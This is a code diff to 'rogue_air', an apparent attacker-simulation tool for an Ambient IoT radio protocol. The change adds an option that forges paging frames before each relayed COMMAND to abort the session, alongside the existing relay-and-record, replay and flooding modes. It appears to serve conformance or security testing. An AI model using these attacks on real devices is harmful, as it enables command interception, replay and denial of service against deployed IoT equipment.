@@ -15,6 +15,9 @@
  *            cmd IDHEX FRAMEHEX      an R2D COMMAND frame and the identifier it was sent to
  *          --dup-commands sends every COMMAND twice: the second copy is a replay within the
  *          session (an old COUNT), which the device must reject.
+ *          --page-before-command N: the paging abort (TS 33.369 5.2.2 NOTE 1), deterministic:
+ *          right before forwarding a COMMAND, pages its device N times in fresh sessions of
+ *          its own (SINGLE by the identifier overheard, else ALL; answers discarded).
  *   replay --air ADDR --record FILE [--verbatim]
  *          replays the recorded Command Requests into a new session: pages every device
  *          (new RAND_AIOT_n, so new RAND_AIOT_d and K_AIOTF) and sends each recorded NAS PDU
@@ -48,6 +51,7 @@
 static const char usage_text[] =
     "usage: rogue_air page   --air ADDR:PORT [--forge K] [--q Q]\n"
     "       rogue_air relay  --listen ADDR:PORT --air ADDR:PORT --record FILE [--dup-commands]\n"
+    "                        [--page-before-command N]\n"
     "       rogue_air replay --air ADDR:PORT --record FILE [--verbatim] [--q Q]\n"
     "       rogue_air flood  --air ADDR:PORT --rate N --duration-ms MS [--q Q]\n";
 
@@ -313,9 +317,31 @@ static void hex_line(FILE *out, const char *tag, const ident *id, const uint8_t 
 	free(h);
 }
 
-static int mode_relay(const char *listen, const char *air, const char *record, int dup)
+/* --page-before-command: n pagings of the device id names (all devices if NULL), each in a
+ * fresh session with a fresh RAND_AIOT_n, from the attacker's own radio fd. */
+static unsigned abort_pages(int fd, const ident *id, unsigned n)
+{
+	unsigned sent = 0;
+	for (unsigned i = 0; i < n; i++) {
+		air_frame f = {.type = AIR_PAGING};
+		rnd(&f.session, sizeof f.session);
+		f.u.paging.q = 0;
+		f.u.paging.kind = id != NULL ? AIR_IDENT_SINGLE : AIR_IDENT_ALL;
+		if (id != NULL) {
+			f.u.paging.ident = id->b;
+			f.u.paging.ident_bits = (uint16_t)(8u * id->len);
+		}
+		rnd(f.u.paging.rand_n, 16);
+		sent += send_frame(fd, &f) == 0;
+	}
+	return sent;
+}
+
+static int mode_relay(const char *listen, const char *air, const char *record, int dup,
+		      unsigned abort_n)
 {
 	int lfd = air_socket(NULL, listen), ufd = air_socket(air, NULL);
+	int afd = abort_n ? air_socket(air, NULL) : -1; /* the attacker's own radio */
 	FILE *out = fopen(record, "a");
 	air_addr reader;
 	socklen_t rlen = 0;
@@ -323,7 +349,7 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 	size_t nseen = 0, seencap = 0;
 	paged pg[256];
 	size_t npg = 0;
-	unsigned long up = 0, down = 0, cmds = 0, invs = 0, dups = 0;
+	unsigned long up = 0, down = 0, cmds = 0, invs = 0, dups = 0, aborts = 0;
 	uint8_t buf[AIR_MAX_FRAME + 1];
 	struct sockaddr_storage ss;
 	socklen_t sl = sizeof ss;
@@ -339,9 +365,12 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 	fprintf(stderr, "rogue_air: relay on %s -> %s\n",
 	        air_addr_str((struct sockaddr *)&ss, a, sizeof a), air);
 	while (!stop) {
-		struct pollfd p[2] = {{.fd = lfd, .events = POLLIN}, {.fd = ufd, .events = POLLIN}};
-		if (poll(p, 2, 500) <= 0)
+		struct pollfd p[3] = {{.fd = lfd, .events = POLLIN}, {.fd = ufd, .events = POLLIN},
+				      {.fd = afd, .events = POLLIN}};
+		if (poll(p, 3, 500) <= 0)
 			continue;
+		if (p[2].revents & POLLIN) /* answers to our own pagings: dropped */
+			(void)recv(afd, buf, sizeof buf, 0);
 		if (p[0].revents & POLLIN) { /* R2D from the reader */
 			air_addr from;
 			socklen_t flen = sizeof from;
@@ -359,15 +388,18 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 					e->id.len = (uint8_t)(f.u.paging.ident_bits / 8);
 					memcpy(e->id.b, f.u.paging.ident, e->id.len);
 				}
-				send(ufd, buf, (size_t)n, 0);
+				const ident *id = NULL;
 				if (ok && f.type == AIR_COMMAND) {
-					const ident *id = NULL;
 					for (size_t i = nseen; i-- > 0;)
 						if (sv[i].session == f.session &&
 						    sv[i].handle == f.u.cmd.handle) {
 							id = &sv[i].id;
 							break;
 						}
+					aborts += abort_pages(afd, id, abort_n);
+				}
+				send(ufd, buf, (size_t)n, 0);
+				if (ok && f.type == AIR_COMMAND) {
 					if (id != NULL) {
 						hex_line(out, "cmd", id, buf, (size_t)n);
 						cmds++;
@@ -410,15 +442,17 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 	}
 	fprintf(stderr,
 	        "rogue_air: relay: %lu R2D and %lu D2R frames forwarded, %lu Inventory Responses "
-	        "and %lu COMMAND frames recorded, %lu duplicated\n",
-	        up, down, invs, cmds, dups);
+	        "and %lu COMMAND frames recorded, %lu duplicated, %lu abort pagings\n",
+	        up, down, invs, cmds, dups, aborts);
 	printf("{\"mode\":\"relay\",\"r2d\":%lu,\"d2r\":%lu,\"inv_recorded\":%lu,"
-	       "\"cmd_recorded\":%lu,\"cmd_duplicated\":%lu}\n",
-	       up, down, invs, cmds, dups);
+	       "\"cmd_recorded\":%lu,\"cmd_duplicated\":%lu,\"abort_pagings\":%lu}\n",
+	       up, down, invs, cmds, dups, aborts);
 	fclose(out);
 	free(sv);
 	close(lfd);
 	close(ufd);
+	if (afd >= 0)
+		close(afd);
 	return 0;
 }
 
@@ -547,11 +581,12 @@ int main(int argc, char **argv)
 	    {"record", required_argument, NULL, 3}, {"dup-commands", no_argument, NULL, 4},
 	    {"forge", required_argument, NULL, 5},  {"verbatim", no_argument, NULL, 6},
 	    {"rate", required_argument, NULL, 7},   {"duration-ms", required_argument, NULL, 8},
-	    {"q", required_argument, NULL, 9},      {NULL, 0, NULL, 0},
+	    {"q", required_argument, NULL, 9},      {"page-before-command", required_argument, NULL, 10},
+	    {NULL, 0, NULL, 0},
 	};
 	const char *air = NULL, *listen = NULL, *record = NULL;
 	int dup = 0, verbatim = 0, q = 6, o;
-	unsigned forge = 1, rate = 100, duration = 1000;
+	unsigned forge = 1, rate = 100, duration = 1000, abort_n = 0;
 	if (argc < 2) {
 		fputs(usage_text, stderr);
 		return 1;
@@ -587,6 +622,9 @@ int main(int argc, char **argv)
 		case 9:
 			q = atoi(optarg);
 			break;
+		case 10:
+			abort_n = (unsigned)strtoul(optarg, NULL, 0);
+			break;
 		default:
 			fputs(usage_text, stderr);
 			return 1;
@@ -605,7 +643,7 @@ int main(int argc, char **argv)
 	if (strcmp(mode, "page") == 0)
 		return mode_page(air, q, forge);
 	if (strcmp(mode, "relay") == 0 && listen != NULL && record != NULL)
-		return mode_relay(listen, air, record, dup);
+		return mode_relay(listen, air, record, dup, abort_n);
 	if (strcmp(mode, "replay") == 0 && record != NULL)
 		return mode_replay(air, record, verbatim, q);
 	if (strcmp(mode, "flood") == 0)
